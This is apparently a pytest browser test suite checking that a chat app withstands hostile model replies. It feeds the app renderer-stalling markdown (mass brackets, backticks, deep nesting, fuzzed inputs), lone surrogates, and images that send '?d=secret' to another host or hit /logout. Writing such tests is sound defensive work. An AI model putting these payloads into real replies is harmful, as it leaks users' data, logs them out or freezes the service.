"""Hostile replies, streamed from a real model server into the real app and a real browser.

Each one used to freeze the server, poison its conversation, leak it to another host or log the reader out.
For each: the event loop is never blocked for 50 ms (the app's own loop-lag probe, which counts only time
its thread ran) and /healthz keeps answering meanwhile; the reply is stored whole; the conversation opens
again; nothing is fetched from another host (a beacon on another loopback address hears no request) and
no app route is called by the content.
"""

from __future__ import annotations

import json
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.support.chat import open_chat, replies, reply_md, send_new, wait_finished
from tests.support.other_site import OtherSite
from tests.support.servers import App, DiagApp, LLMock

pytestmark = pytest.mark.browser

HOSTILE = Path(__file__).with_name('hostile')
STALL_LIMIT_SECONDS = 0.05
LLM_CHUNK_DELAY_MS = 1  # a quicker model than the other browser tests': the hostile replies are long
HEALTH_LIMIT_SECONDS = 1.0  # a whole round trip on a busy 2-core machine; the freezes were 9 to 18 s


class HealthProbe:
    """GETs /healthz every 20 ms in a thread of its own and keeps the slowest answer."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.slowest = 0.0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.wait(0.02):
            started = time.monotonic()
            with urllib.request.urlopen(self.url, timeout=30) as response:
                response.read()
            self.slowest = max(self.slowest, time.monotonic() - started)

    def __enter__(self) -> HealthProbe:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(35)


@pytest.fixture(scope='module')
def beacon() -> Iterator[OtherSite]:
    with OtherSite() as site:
        yield site


@pytest.fixture(scope='module')
def app_server(tmp_path_factory: pytest.TempPathFactory, llm_server: LLMock) -> Iterator[App]:
    """The app with its test-only loop-lag probe (tests/support/diag_app.py)."""
    with DiagApp(tmp_path_factory.mktemp('chatapp'), llm_server) as app:
        yield app


def loop_lag(app: App) -> float:
    with urllib.request.urlopen(app.url + '/_test/diagnostics', timeout=30) as response:
        return json.loads(response.read())['loop_lag_max']


def nested_list(depth: int) -> str:
    return ''.join('  ' * level + '- item\n' for level in range(depth))


# what broke the old renderer (markdown2), and the worst of what the fuzzer finds (bench/render_bench.py)
PATHOLOGICAL = {
    'link openers': '[x](' * 10_000,
    'backticks': '`' * 40_000,
    'brackets': '[' * 64_000,
    'image openers': '![' * 20_000,
    'emphasis runs': '*a_' * 15_000,
    'deep quote': '>' * 300 + ' deep',
    'deep list': nested_list(300),
    # found by bench/render_bench.py: 2,000 characters that kept markdown2 busy for more than 30 s, and the
    # slowest per character for markdown-it-py
    'fuzzed: markdown2 stuck': (HOSTILE / 'fuzzed-markdown2-stuck.md').read_text(),
    'fuzzed: markdown-it worst': (HOSTILE / 'fuzzed-markdown-it-worst.md').read_text(),
    'long code': '```python\n' + 'value=[compute(value)*2,{value:_[1]}]#again\n' * 2_000 + '```\n',
}


@pytest.mark.parametrize('name', PATHOLOGICAL)
def test_a_pathological_reply_never_blocks_the_server(name: str, app_server: App, llm: LLMock, page: Page) -> None:
    text = PATHOLOGICAL[name]
    llm.reply(text)
    open_chat(page)
    loop_lag(app_server)  # from here on
    with HealthProbe(app_server.url + '/healthz') as health:
        conversation = send_new(page, f'Write {name}')
        wait_finished(replies(page).last, timeout=60_000)
        page.reload()
        expect(replies(page).last).to_be_visible(timeout=30_000)
        time.sleep(1.0)  # the worker's render of a costly reply comes in after the page
    assert loop_lag(app_server) < STALL_LIMIT_SECONDS
    assert health.slowest < HEALTH_LIMIT_SECONDS
    assert app_server.stored_replies([conversation]) == {conversation: ('complete', text)}
    expect(reply_md(replies(page).last)).to_be_attached()  # (40,000 backticks are an empty code block)


def test_images_and_links_in_a_reply_fetch_nothing_from_elsewhere(app_server: App, llm: LLMock, page: Page,
                                                                   beacon: OtherSite) -> None:
    text = (f'Look: ![the secret]({beacon.origin}/x.png?d=secret) and ![me](/logout) and '
            f'![relative](x.png) and [a link]({beacon.origin}/page).\n\n'
            f'<img src="{beacon.origin}/raw.png"> ![ref][r]\n\n[r]: {beacon.origin}/ref.png\n')
    requested: list[str] = []
    page.on('request', lambda request: requested.append(request.url))
    llm.reply(text)
    open_chat(page)
    conversation = send_new(page, 'Show me pictures')
    reply = replies(page).last
    wait_finished(reply)
    page.reload()
    wait_finished(replies(page).last)
    page.wait_for_timeout(500)
    assert beacon.requests == []
    assert not [url for url in requested if url.startswith(beacon.origin) or '/logout' in url or 'x.png' in url]
    shown = replies(page).last
    expect(shown.locator('img')).to_have_count(0)
    expect(shown.locator('.blocked-image')).to_have_count(4)  # alt text and address instead of the image
    expect(shown).to_contain_text(f'{beacon.origin}/x.png?d=secret')
    link = shown.locator('a', has_text='a link')
    expect(link).to_have_attribute('target', '_blank')
    expect(link).to_have_attribute('rel', 'noopener noreferrer')
    assert app_server.stored_replies([conversation]) == {conversation: ('complete', text)}


def test_a_reply_with_lone_surrogates_is_saved_and_shown(app_server: App, llm: LLMock, page: Page) -> None:
    llm.reply('before \udc00 middle \ud800 after')
    open_chat(page)
    conversation = send_new(page, 'Say something broken')
    wait_finished(replies(page).last)
    cleaned = 'before \ufffd middle \ufffd after'
    assert app_server.stored_replies([conversation]) == {conversation: ('complete', cleaned)}
    page.reload()
    expect(replies(page).last).to_contain_text(cleaned)


def test_a_message_with_a_lone_surrogate_is_sent(app_server: App, llm: LLMock, page: Page) -> None:
    """The browser's socket would drop the whole update: the page makes the text well-formed as it is typed."""
    llm.reply('Got it.')
    open_chat(page)
    page.locator('textarea[data-testid=composer]').evaluate(
        '(field) => { field.value = "half \\ud83d an emoji";'
        ' field.dispatchEvent(new Event("input", {bubbles: true})); }'
    )
    page.locator('textarea[data-testid=composer]').press('Enter')
    expect(page.locator('[data-testid=message-user]')).to_have_text('half \ufffd an emoji')
    wait_finished(replies(page).last)
